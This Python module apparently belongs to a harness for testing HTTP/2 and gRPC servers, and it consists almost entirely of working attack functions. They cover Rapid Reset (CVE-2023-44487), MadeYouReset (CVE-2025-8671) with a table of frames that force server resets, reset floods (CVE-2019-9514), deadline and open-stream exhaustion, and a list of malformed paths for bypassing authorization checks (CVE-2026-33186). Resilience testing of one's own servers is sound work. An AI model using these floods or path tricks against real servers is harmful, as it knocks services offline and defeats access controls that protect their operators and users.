"""Attacks by streams that begin and end for nothing."""

from collections.abc import Callable

from attacks import frames
from attacks.outcome import Outcome
from attacks.target import GET, SERVICE, Target

PER_CHUNK = 50
# Ten times what nghttp2 lets be reset in a burst, and a hundred times what the budget of frames
# that get nothing done lets a client provoke.
STREAMS = 10_000
# As many as fill the buffers of the sockets with what they provoke.
UNREAD_STREAMS = 200_000


def _flood(
    target: Target, request: Callable[[int, bytes], bytes], count: int = STREAMS, **options
) -> Outcome:
    """Sends requests, each made of its stream and its head, until the server has enough, and takes
    what it answers: so many at least, where it goes on. A head is long the first time, and a few
    bytes after that."""
    takes_answers = options.pop("takes_answers", True)
    answers = options.pop("answers", 0)
    first, again = frames.repeatable(target.fields(**options))

    def chunk(at: int) -> bytes:
        streams = range(1 + 2 * PER_CHUNK * at, 1 + 2 * PER_CHUNK * (at + 1), 2)
        return b"".join(request(n, first if n == 1 else again) for n in streams)

    with target.connect(takes_answers, acknowledges=False) as attacker:
        attacker.flood(chunk, count // PER_CHUNK, seconds=1)
        return attacker.answered(answers)


def rapid_reset(target: Target, hold: float) -> Outcome:
    """CVE-2023-44487: whole calls, each taken back at once."""
    return made_you_reset(target, hold, frames.reset)


def made_you_reset(target: Target, hold: float, provoke=None) -> Outcome:
    """CVE-2025-8671: whole calls that the server itself must reset, for what comes after."""
    provoke = provoke or PROVOCATIONS["a window that overflows"]
    body = target.body()
    return _flood(
        target,
        lambda n, head: (
            frames.headers(n, head) + frames.data(n, body, end_stream=True) + provoke(n)
        ),
    )


# What else may be sent on a stream that is half closed to make the server reset it.
PROVOCATIONS = {
    "a window that overflows": lambda n: frames.window_update(n, 0x7FFF_FFFF),
    "a window update by nothing": lambda n: frames.window_update(n, 0),
    "data after the end": lambda n: frames.data(n, b"x"),
    "headers after the end": lambda n: frames.headers(n, b"", end_stream=True),
    "a priority of the wrong length": lambda n: frames.frame(frames.PRIORITY, n, b"\0"),
    "a stream that depends on itself": lambda n: frames.frame(
        frames.PRIORITY, n, frames.number(n) + b"\x10"
    ),
}


def unread_resets(target: Target, hold: float) -> Outcome:
    """CVE-2019-9514: requests that break the rules, by one who never reads the resets."""
    return _flood(target, frames.headers, takes_answers=False, Upper_Case="x")


def unread_refusals(target: Target, hold: float) -> Outcome:
    """The same with requests that keep the rules, and are refused before they have ended."""
    unknown = f"{SERVICE}/Unknown"
    return _flood(target, frames.headers, UNREAD_STREAMS, takes_answers=False, path=unknown)


def short_deadlines(target: Target, hold: float) -> Outcome:
    """Calls that the server must cancel itself, since their time is over when they have begun."""
    body = target.body()
    return _flood(
        target,
        lambda n, head: frames.headers(n, head) + frames.data(n, body, end_stream=True),
        answers=STREAMS,
        grpc_timeout="100u",
    )


def open_streams(target: Target, hold: float, count: int = 1_000) -> Outcome:
    """Requests that never end, more of them than may be open at once."""
    head = target.head()
    with target.connect() as attacker:
        attacker.send(b"".join(frames.headers(1 + 2 * n, head) for n in range(count)))
        attacker.ping()
        attacker.finish(hold)
        return attacker.outcome


BAD_PATHS = [
    GET.removeprefix("/"),
    f"/{GET}",
    GET.replace("/Get", "//Get"),
    f"{GET}/",
    f"/.{GET}",
    f"/x/..{GET}",
    GET.replace("/Get", "/./Get"),
    GET.replace("/Get", "%2FGet"),
    GET.replace("Get", "%47et"),
    GET.replace("/Get", "\\Get"),
    GET.lower(),
    f"{GET}?x",
    f"{GET}#x",
    f"{GET};x",
    f"http://localhost{GET}",
    "*",
    "/",
]


def wrong_paths(target: Target, hold: float, token: str | None = None) -> Outcome:
    """CVE-2026-33186: a method under a name that a check might not know, without a token."""
    with target.connect() as attacker:
        for at, path in enumerate(BAD_PATHS):
            attacker.send(target.call(1 + 2 * at, path=path, token=token))
        return attacker.answered(len(BAD_PATHS))
